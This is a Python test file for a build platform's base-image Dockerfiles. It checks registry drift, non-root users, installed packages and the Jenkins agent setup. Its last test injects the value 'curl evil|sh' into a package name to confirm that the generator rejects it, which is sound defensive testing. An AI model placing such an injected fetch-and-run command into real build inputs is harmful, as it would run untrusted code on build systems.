"""base-images/: generated from the buildfact registry, and shaped the way the image stage and deploy/ expect."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from buildplat.buildfacts.registry import BUILDFACTS
from buildplat.images import dockerfiles
from buildplat.images.build import AGENT_REPOSITORY
from buildplat.stages.image_config import NONROOT_USER
from tests.cli_helpers import REPO_ROOT

BASE_IMAGES = REPO_ROOT / "base-images"


def _installed(dockerfile: str) -> set[str]:
    lines = [line for line in dockerfile.splitlines() if "apt-get install" in line]
    assert len(lines) == 1, dockerfile
    words = lines[0].split("--no-install-recommends", 1)[1].rstrip("; \\").split()
    return set(words)


def test_the_committed_files_are_what_the_registry_generates() -> None:
    assert dockerfiles.drift(BASE_IMAGES) == []
    assert dockerfiles.base_images_dir().resolve() == BASE_IMAGES.resolve(), "the wheel ships the same files"


def test_drift_is_detected(tmp_path: Path) -> None:
    copy = tmp_path / "base-images"
    shutil.copytree(BASE_IMAGES, copy)
    text = (copy / "ruby" / "Dockerfile").read_text()
    (copy / "ruby" / "Dockerfile").write_text(text.replace(" ruby;", " ruby ruby-full;"))
    (copy / "go" / "agent" / "jenkins-agent").chmod(0o644)
    found = dockerfiles.drift(copy)
    assert len(found) == 2
    assert "ruby/Dockerfile: differs" in found[0] or "ruby/Dockerfile: differs" in found[1]
    assert any("jenkins-agent: mode 644" in line for line in found)
    assert dockerfiles.main([str(copy)]) == 1
    dockerfiles.write(copy)
    assert dockerfiles.drift(copy) == []


@pytest.mark.parametrize("buildfact", sorted(BUILDFACTS))
def test_runtime_image_installs_the_runtime_packages_and_runs_as_nonroot(buildfact: str) -> None:
    text = (BASE_IMAGES / buildfact / "Dockerfile").read_text()
    assert _installed(text) == set(BUILDFACTS[buildfact].runtime_packages)
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    assert lines[0] == "ARG BASE=debian:bookworm-slim", "the FROM is a build argument tests point at a local image"
    assert lines[1] == "FROM ${BASE}"
    users = [line for line in lines if line.startswith("USER ")]
    assert users[-1] == f"USER {NONROOT_USER}", "the image stage keeps a non-root base user as it is"
    assert f'dev.buildplat.base.buildfact="{buildfact}"' in text
    assert "org.opencontainers.image.title=" in text


@pytest.mark.parametrize("buildfact", sorted(BUILDFACTS))
def test_agent_image_adds_the_build_packages_git_a_jre_and_the_inbound_agent(buildfact: str) -> None:
    text = (BASE_IMAGES / buildfact / "agent" / "Dockerfile").read_text()
    installed = _installed(text)
    assert set(BUILDFACTS[buildfact].build_packages) <= installed
    assert {"git", "python3-venv"} <= installed
    assert any(re.match(r"openjdk-\d+-(jre|jdk)-headless$", name) for name in installed), "remoting needs Java"
    assert "FROM ${BASE}" in text
    assert 'ENTRYPOINT ["/usr/local/bin/jenkins-agent"]' in text
    assert [line for line in text.splitlines() if line.startswith("USER ")][-1] == f"USER {NONROOT_USER}"
    script = BASE_IMAGES / buildfact / "agent" / "jenkins-agent"
    assert script.stat().st_mode & 0o111
    assert script.read_bytes() == (BASE_IMAGES / "shared" / "jenkins-agent").read_bytes()


def test_agent_repository_is_the_one_deploy_renders() -> None:
    from buildplat_deploy.casc import casc
    from buildplat_deploy.config import load

    config = load("alpha")
    rendered = str(casc(config))
    for buildfact in config.buildfacts:
        assert f"{config.registry}/{AGENT_REPOSITORY.format(buildfact=buildfact)}:{config.platform_version}" in rendered


def test_a_bad_package_name_never_reaches_a_dockerfile(monkeypatch: pytest.MonkeyPatch) -> None:
    import dataclasses

    from buildplat.errors import BuildplatError

    evil = dataclasses.replace(BUILDFACTS["go"], runtime_packages=("ca-certificates; curl evil|sh",))
    monkeypatch.setitem(BUILDFACTS, "go", evil)
    with pytest.raises(BuildplatError, match="is not a Debian package name"):
        dockerfiles.runtime_dockerfile("go")
